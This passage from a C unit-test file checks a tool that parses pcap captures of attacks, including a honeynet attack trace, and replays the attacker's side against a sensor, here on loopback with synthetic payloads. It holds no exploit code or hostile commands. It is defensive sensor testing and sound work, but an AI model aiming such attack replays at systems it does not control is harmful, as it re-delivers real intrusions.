	free(b.p);
}

static void
test_port_reuse_and_reset(void **state)
{
	struct replay_capture	*cap;
	struct cb		 b;

	cb_init(&b, LT_ETHERNET);
	cb_handshake(&b);
	cb_tcp(&b, 1, 1001, 5001, F_ACK, "first");
	cb_tcp(&b, 1, 1006, 0, F_RST, NULL);
	cb_tcp(&b, 1, 1006, 5001, F_ACK, NULL);		/* straggler */
	cb_tcp(&b, 1, 7000, 0, F_SYN, NULL);		/* same ports */
	cb_tcp(&b, 0, 9000, 7001, F_SYN | F_ACK, NULL);
	cb_tcp(&b, 1, 7001, 9001, F_ACK, "second");
	cap = cb_parse(&b, NULL);
	assert_int_equal(cap->nflows, 2);
	assert_memory_equal(cap->flows[0].chunks[0].data, "first", 5);
	assert_memory_equal(cap->flows[1].chunks[0].data, "second", 6);
	assert_int_equal(cap->steps[2].kind, REPLAY_STEP_CLOSE);
	assert_int_equal(cap->steps[3].kind, REPLAY_STEP_OPEN);
	replay_pcap_free(cap);
	free(b.p);
}

static void
test_scan_not_played(void **state)
{
	struct replay_capture	*cap;
	struct cb		 b;

	/* a closed port, an unanswered SYN, then a real connection */
	cb_init(&b, LT_ETHERNET);
	b.cport = 40001;
	b.sport = 23;
	cb_tcp(&b, 1, 1000, 0, F_SYN, NULL);
	cb_tcp(&b, 0, 0, 1001, F_RST | F_ACK, NULL);
	b.sport = 25;
	cb_tcp(&b, 1, 1000, 0, F_SYN, NULL);
	b.sport = 445;
	cb_handshake(&b);
	cb_tcp(&b, 1, 1001, 5001, F_ACK, "x");
	cap = cb_parse(&b, NULL);
	assert_int_equal(cap->nflows, 3);
	assert_int_equal(cap->flows[0].skip, REPLAY_SKIP_REFUSED);
	assert_int_equal(cap->flows[1].skip, REPLAY_SKIP_REFUSED);
	assert_int_equal(cap->flows[2].skip, REPLAY_PLAY);
	assert_int_equal(cap->steps[0].kind, REPLAY_STEP_OPEN);
	assert_int_equal(cap->steps[0].flow, 2);
	replay_pcap_free(cap);
	free(b.p);
}

static void
test_empty_datagram(void **state)
{
	struct replay_capture	*cap;
	struct cb		 b;

	cb_init(&b, LT_RAW);
	cb_udp(&b, 1, 5000, 7, "");
	cb_udp(&b, 1, 5000, 7, "x");
	cap = cb_parse(&b, NULL);
	assert_int_equal(cap->nflows, 1);
	assert_int_equal(cap->flows[0].nchunks, 2);
	assert_int_equal(cap->flows[0].chunks[0].len, 0);
	assert_non_null(cap->flows[0].chunks[0].data);
	assert_int_equal(cap->flows[0].chunks[1].len, 1);
	replay_pcap_free(cap);
	free(b.p);
}

static void
test_link_types(void **state)
{
	static const struct { uint32_t lt; int vlan; int v6; } cases[] = {
		{ LT_ETHERNET, 0, 0 }, { LT_ETHERNET, 1, 0 },
		{ LT_ETHERNET, 1, 1 }, { LT_SLL, 0, 0 }, { LT_SLL2, 0, 1 },
		{ LT_RAW, 0, 0 }, { LT_RAW, 0, 1 }, { LT_NULL, 0, 0 },
		{ LT_NULL, 0, 1 }, { LT_LOOP, 0, 0 }, { LT_LOOP, 0, 1 },
	};
	struct replay_capture	*cap;
	struct cb		 b;
	size_t			 i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		cb_init(&b, cases[i].lt);
		b.vlan = cases[i].vlan;
		b.v6 = cases[i].v6;
		cb_handshake(&b);
		cb_tcp(&b, 1, 1001, 5001, F_ACK, "payload");
		cb_udp(&b, 1, 5353, 53, "query");
		cap = cb_parse(&b, NULL);
		assert_int_equal(cap->nflows, 2);
		assert_int_equal(cap->flows[0].family,
		    cases[i].v6 ? AF_INET6 : AF_INET);
		assert_int_equal(cap->flows[0].client_bytes, 7);
		assert_memory_equal(cap->flows[0].chunks[0].data, "payload",
		    7);
		assert_int_equal(cap->flows[1].proto, IPPROTO_UDP);
		assert_int_equal(cap->flows[1].server_port, 53);
		assert_memory_equal(cap->flows[1].chunks[0].data, "query", 5);
		replay_pcap_free(cap);
		free(b.p);
	}
}

static void
test_fragments_skipped(void **state)
{
	struct replay_capture	*cap;
	struct cb		 b;
	uint8_t			 l4[64], ip[128];

	cb_init(&b, LT_ETHERNET);
	cb_handshake(&b);
	/* a first fragment (MF) and a later one: both skipped, counted */
	memset(l4, 'F', sizeof(l4));
	cb_frame(&b, ip, ip_packet(&b, ip, 1, IPPROTO_UDP, l4, 64, 0x2000),
	    0);
	cb_frame(&b, ip, ip_packet(&b, ip, 1, IPPROTO_UDP, l4, 64, 0x0008),
	    0);
	cb_tcp(&b, 1, 1001, 5001, F_ACK, "after");
	cap = cb_parse(&b, NULL);
	assert_int_equal(cap->stats.fragments, 2);
	assert_int_equal(cap->nflows, 1);
	assert_int_equal(cap->flows[0].client_bytes, 5);
	replay_pcap_free(cap);
	free(b.p);
}

/* ---- the sender, end to end on 127.0.0.1 ---- */

static int64_t
mono_ms(void)
{
	struct timespec	 ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int
listen_any(int type, uint16_t *port)
{
	struct sockaddr_in	 sin;
	socklen_t		 sl = sizeof(sin);
	int			 fd, one = 1;

	fd = socket(AF_INET, type, 0);
	assert_true(fd >= 0);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	memset(&sin, 0, sizeof(sin));
	sin.sin_family = AF_INET;
	sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	sin.sin_port = htons(*port);
	assert_int_equal(bind(fd, (struct sockaddr *)&sin, sizeof(sin)), 0);
	if (type == SOCK_STREAM)
		assert_int_equal(listen(fd, 8), 0);
	assert_int_equal(getsockname(fd, (struct sockaddr *)&sin, &sl), 0);
	*port = ntohs(sin.sin_port);
	return fd;
}

/* Read exactly n bytes (or to the end); returns what was read. */
static size_t
read_n(int fd, uint8_t *buf, size_t n)
{
	size_t	 got = 0;
	ssize_t	 r;

	while (got < n && (r = read(fd, buf + got, n - got)) > 0)
		got += (size_t)r;
	return got;
}

struct echo {
	int		 lfd;
	int		 delay_ms;	/* before listen() (retry test) */
	uint16_t	 port;
	uint8_t		 got[256];
	size_t		 ngot;
	int		 early;		/* data came before our answer */
	int64_t		 t_answer_end;	/* the answer's last part sent */
	int64_t		 t_second;	/* the second chunk arrived */
};

/*
 * A sensor stand-in: read "HELLO-1", answer "ANS" and, 100 ms later,
 * "WER", read "HELLO-2", answer "BYE", read to the end.
 */
static void *
echo_main(void *arg)
{
	struct echo	*e = arg;
	struct pollfd	 pfd;
	int		 fd;

	if (e->delay_ms > 0) {
		usleep((useconds_t)e->delay_ms * 1000);
		e->lfd = listen_any(SOCK_STREAM, &e->port);
	}
	if ((fd = accept(e->lfd, NULL, NULL)) == -1)
		return NULL;
	e->ngot = read_n(fd, e->got, 7);
	usleep(150 * 1000);
	pfd.fd = fd;
	pfd.events = POLLIN;
	e->early = poll(&pfd, 1, 0) > 0;
	(void)write(fd, "ANS", 3);
	usleep(100 * 1000);
	(void)write(fd, "WER", 3);
	e->t_answer_end = mono_ms();
	e->ngot += read_n(fd, e->got + e->ngot, 7);
	e->t_second = mono_ms();
	(void)write(fd, "BYE", 3);
	e->ngot += read_n(fd, e->got + e->ngot, sizeof(e->got) - e->ngot);
	close(fd);
	return NULL;
}

/* The synthetic attack: two requests, each answered. */
static char *
write_dialogue(void)
{
	static char	 path[64];
	struct cb	 b;
	int		 fd;

	cb_init(&b, LT_ETHERNET);
	cb_handshake(&b);
	cb_tcp(&b, 1, 1001, 5001, F_ACK | F_PSH, "HELLO-1");
	cb_tcp(&b, 0, 5001, 1008, F_ACK | F_PSH, "ANSWER");
	cb_tcp(&b, 1, 1008, 5007, F_ACK | F_PSH, "HELLO-2");
	cb_tcp(&b, 0, 5007, 1015, F_ACK | F_PSH, "BYE");
	cb_tcp(&b, 1, 1015, 5010, F_ACK | F_FIN, NULL);
	snprintf(path, sizeof(path), "/tmp/test-replay-XXXXXX");
	fd = mkstemp(path);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, b.p, b.len), (ssize_t)b.len);
	close(fd);
	free(b.p);
	return path;
}

static void
test_send_and_wait(void **state)
{
	struct echo	 e;
	pthread_t	 th;
	char		*path, off[16];
	char		*argv[] = { "replay", "--quiet", "300", "--wait", "2000",
	    "--port-offset", off, NULL, NULL };
	int		 rc;

	memset(&e, 0, sizeof(e));
	e.lfd = listen_any(SOCK_STREAM, &e.port);
	assert_true(e.port > 80);
	snprintf(off, sizeof(off), "%d", e.port - 80);
	path = write_dialogue();
	argv[7] = path;
	assert_int_equal(pthread_create(&th, NULL, echo_main, &e), 0);
	rc = replay_main(8, argv);
	pthread_join(th, NULL);
	close(e.lfd);
	unlink(path);
	assert_int_equal(rc, 0);
	assert_int_equal(e.ngot, 14);
	assert_memory_equal(e.got, "HELLO-1HELLO-2", 14);
	/* it waited for the answer, and for its second part */
	assert_false(e.early);
	assert_true(e.t_second - e.t_answer_end >= 250);
}

static void
test_retry_until_open(void **state)
{
	struct echo	 e;
	pthread_t	 th;
	char		*path = write_dialogue(), off[16];
	char		*argv[] = { "replay", path, "--retry", "5", "--quiet",
	    "100", "--port-offset", off, NULL };
	int		 fd, rc;

	/* a port that is free now, and will open in 700 ms */
	memset(&e, 0, sizeof(e));
	fd = listen_any(SOCK_STREAM, &e.port);
	close(fd);
	e.delay_ms = 700;
	snprintf(off, sizeof(off), "%d", e.port - 80);
	assert_int_equal(pthread_create(&th, NULL, echo_main, &e), 0);
	rc = replay_main(8, argv);
	pthread_join(th, NULL);
	close(e.lfd);
	unlink(path);
	assert_int_equal(rc, 0);
	assert_int_equal(e.ngot, 14);
}

static void
make_opts(struct replay_opts *o, int offset, int retry)
{
	struct sockaddr_in	*sin = (struct sockaddr_in *)&o->to;

	memset(o, 0, sizeof(*o));
	sin->sin_family = AF_INET;
	sin->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	o->tolen = sizeof(*sin);
	o->quiet_ms = 100;
	o->wait_ms = 300;
	o->retry_s = retry;
	o->port_offset = offset;
}

/* The output of replay_run, in a string to free(). */
static char *
run_capture(const struct replay_capture *cap, const struct replay_opts *o,
    int *rc)
{
	FILE	*fp = tmpfile();
	char	*s;
	long	 n;

	assert_non_null(fp);
	*rc = replay_run(cap, o, fp);
	n = ftell(fp);
	assert_true(n > 0);
	rewind(fp);
	s = calloc(1, (size_t)n + 1);
	assert_non_null(s);
	assert_int_equal(fread(s, 1, (size_t)n, fp), (size_t)n);
	fclose(fp);
	return s;
}

static void
test_refused(void **state)
{
	struct replay_capture	*cap;
	struct replay_opts	 o;
	char			*out, want[128];
	uint16_t		 port = 0;
	int			 fd, rc;

	fd = listen_any(SOCK_STREAM, &port);
	close(fd);
	cap = read_corpus("attack/honeynet-fc2010-1_attack-trace.pcap", NULL);
	make_opts(&o, port - 445, 1);
	out = run_capture(cap, &o, &rc);
	assert_int_equal(rc, 1);
	snprintf(want, sizeof(want), "tcp 98.114.205.102:1828 -> 445: not "
	    "played: connect to 127.0.0.1 port %u: Connection refused",
	    port);
	assert_non_null(strstr(out, want));
	assert_non_null(strstr(out, "skip tcp 192.150.11.111:36296 -> "
	    "98.114.205.102:8884 (sensor is the client)\n"));
	assert_non_null(strstr(out, "skip tcp 98.114.205.102:2152 -> "
	    "192.150.11.111:1080 (sensor is the client"));
	assert_non_null(strstr(out, "failed, 2 skipped; sent 0 bytes"));
	free(out);
	replay_pcap_free(cap);
}

struct udp_srv {
	int		 a, b;		/* the well-known port, the new one */
	uint16_t	 pa, pb;
	char		 got_a[64], got_b[64];
};

/* TFTP-like: a request on port A, the dialogue goes on from port B. */
static void *
udp_main(void *arg)
{
	struct udp_srv		*u = arg;
	struct sockaddr_storage	 peer;
	socklen_t		 sl = sizeof(peer);
	struct pollfd		 pfd;
	ssize_t			 n;

	n = recvfrom(u->a, u->got_a, sizeof(u->got_a) - 1, 0,
	    (struct sockaddr *)&peer, &sl);
	if (n <= 0)
		return NULL;
	(void)sendto(u->b, "ACK0", 4, 0, (struct sockaddr *)&peer, sl);
	pfd.fd = u->b;
	pfd.events = POLLIN;
	if (poll(&pfd, 1, 3000) != 1)
		return NULL;
	n = recv(u->b, u->got_b, sizeof(u->got_b) - 1, 0);
	if (n > 0)
		(void)sendto(u->b, "ACK1", 4, 0, (struct sockaddr *)&peer, sl);
	return NULL;
}

static void
test_udp_answer_port(void **state)
{
	struct replay_capture	*cap;
	struct replay_opts	 o;
	struct udp_srv		 u;
	struct cb		 b;
	pthread_t		 th;
	char			*out;
	int			 rc;

	memset(&u, 0, sizeof(u));
	u.a = listen_any(SOCK_DGRAM, &u.pa);
	u.b = listen_any(SOCK_DGRAM, &u.pb);
	cb_init(&b, LT_ETHERNET);
	cb_udp(&b, 1, 5000, 69, "WRQ");
	cb_udp(&b, 0, 3000, 5000, "ACK0");
	cb_udp(&b, 1, 5000, 3000, "DATA1");
	cb_udp(&b, 0, 3000, 5000, "ACK1");
	cap = cb_parse(&b, NULL);
	free(b.p);
	assert_int_equal(cap->nflows, 1);
	assert_int_equal(cap->flows[0].nchunks, 2);
	make_opts(&o, u.pa - 69, 1);
	assert_int_equal(pthread_create(&th, NULL, udp_main, &u), 0);
	out = run_capture(cap, &o, &rc);
	pthread_join(th, NULL);
	close(u.a);
	close(u.b);
	assert_int_equal(rc, 0);
	assert_string_equal(u.got_a, "WRQ");
	/* sent where the sensor answered from, not to 3000 + offset */
	assert_string_equal(u.got_b, "DATA1");
	assert_non_null(strstr(out, "udp 10.0.0.1:5000 -> 69: sent 8 bytes "
	    "in 2 datagrams, received 8 bytes\n"));
	free(out);
	replay_pcap_free(cap);
}

static void
test_usage(void **state)
{
	char	*a1[] = { "replay", NULL };
	char	*a2[] = { "replay", "--to", "localhost", "x.pcap", NULL };
	char	*a3[] = { "replay", "--wait", "-5", "x.pcap", NULL };
	char	*a4[] = { "replay", "/nonexistent/x.pcap", NULL };
	char	*a5[] = { "replay", "--port-offset", "70000", "x.pcap", NULL };
	char	*a6[] = { "replay", "a.pcap", "b.pcap", NULL };
	char	*a7[] = { "replay", "--bogus", "a.pcap", NULL };
	char	*a8[] = { "replay", "--help", NULL };

	assert_int_equal(replay_main(1, a1), 2);
	assert_int_equal(replay_main(4, a2), 2);
	assert_int_equal(replay_main(4, a3), 2);
	assert_int_equal(replay_main(2, a4), 2);
	assert_int_equal(replay_main(4, a5), 2);
	assert_int_equal(replay_main(3, a6), 2);
	assert_int_equal(replay_main(3, a7), 2);
	assert_int_equal(replay_main(2, a8), 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_honeynet),
		cmocka_unit_test(test_honeynet_server_option),
		cmocka_unit_test(test_blaster),
		cmocka_unit_test(test_pcapng),
		cmocka_unit_test(test_netbios_split),
		cmocka_unit_test(test_tftp),
		cmocka_unit_test(test_active_ftp),
		cmocka_unit_test(test_every_corpus_capture),
		cmocka_unit_test(test_garbage),
		cmocka_unit_test(test_mutations),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_reassembly),
		cmocka_unit_test(test_out_of_order_first_copy),
		cmocka_unit_test(test_seq_wrap),
		cmocka_unit_test(test_missing_syn),
		cmocka_unit_test(test_lost_segment),
		cmocka_unit_test(test_hole_expires),
		cmocka_unit_test(test_port_reuse_and_reset),
		cmocka_unit_test(test_scan_not_played),
		cmocka_unit_test(test_empty_datagram),
		cmocka_unit_test(test_link_types),
		cmocka_unit_test(test_fragments_skipped),
		cmocka_unit_test(test_send_and_wait),
		cmocka_unit_test(test_retry_until_open),
		cmocka_unit_test(test_refused),
		cmocka_unit_test(test_udp_answer_port),
		cmocka_unit_test(test_usage),
	};

	signal(SIGPIPE, SIG_IGN);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
